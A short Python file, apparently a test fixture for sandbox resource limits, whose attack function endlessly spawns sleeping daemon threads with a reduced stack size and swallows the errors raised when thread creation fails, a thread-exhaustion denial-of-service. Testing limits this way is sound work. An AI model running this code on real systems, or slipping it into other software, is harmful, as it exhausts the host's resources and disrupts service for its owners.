"""Starts threads without end."""

import threading
import time

ONCE = True


def attack(name, arguments):
    threading.stack_size(65536)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            pass
